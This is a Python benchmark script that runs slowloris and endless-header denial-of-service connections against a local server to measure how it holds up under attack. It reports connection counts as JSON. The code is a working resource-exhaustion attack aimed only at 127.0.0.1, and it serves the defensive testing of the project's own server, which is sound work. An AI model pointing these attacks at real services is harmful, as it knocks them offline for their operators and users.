"""Hostile peers for figure 4's "under attack" variant: slowloris and endless-header
connections against one server, until SIGTERM; prints a JSON line of counts at the end.

* ``--slowloris N``: N connections, each sending a request head one byte per second; a
  connection the server closes is opened again at once (so N stay open all the time);
* ``--endless N``: N connections, each streaming one header that never ends, 64 KiB per
  write, as fast as the server reads it; refused ones are opened again at once.

    .venv/bin/python benchmarks/attackers.py --port P [--slowloris 500] [--endless 3]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import signal
from collections import Counter

HEAD = b"POST /v1/experiments HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


async def slowloris(port: int, counts: Counter[str], stop: asyncio.Event) -> None:
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            counts["slowloris_connect_failed"] += 1
            await asyncio.sleep(0.5)
            continue
        counts["slowloris_connections"] += 1
        try:
            for i in range(1_000_000):
                writer.write(HEAD[i : i + 1] if i < len(HEAD) else b"a")
                await writer.drain()
                with contextlib.suppress(asyncio.TimeoutError):
                    if await asyncio.wait_for(reader.read(65536), 1.0) == b"":
                        break  # closed by the server
                if stop.is_set():
                    break
        except OSError:
            pass
        finally:
            writer.close()
        counts["slowloris_closed_by_server"] += not stop.is_set()


async def endless(port: int, counts: Counter[str], stop: asyncio.Event) -> None:
    block = b"a" * 65536
    while not stop.is_set():
        try:
            _reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            counts["endless_connect_failed"] += 1
            await asyncio.sleep(0.1)
            continue
        counts["endless_connections"] += 1
        try:
            writer.write(b"GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Endless: ")
            while not stop.is_set():
                writer.write(block)
                await writer.drain()
                counts["endless_bytes"] += len(block)
        except OSError:
            counts["endless_refused"] += 1
        finally:
            writer.close()


async def main(port: int, n_slow: int, n_endless: int) -> Counter[str]:
    counts: Counter[str] = Counter()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    tasks = [slowloris(port, counts, stop) for _ in range(n_slow)]
    tasks += [endless(port, counts, stop) for _ in range(n_endless)]
    await asyncio.gather(*tasks)
    return counts


if __name__ == "__main__":
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--slowloris", type=int, default=500)
    p.add_argument("--endless", type=int, default=3)
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(asyncio.run(main(a.port, a.slowloris, a.endless))), flush=True)
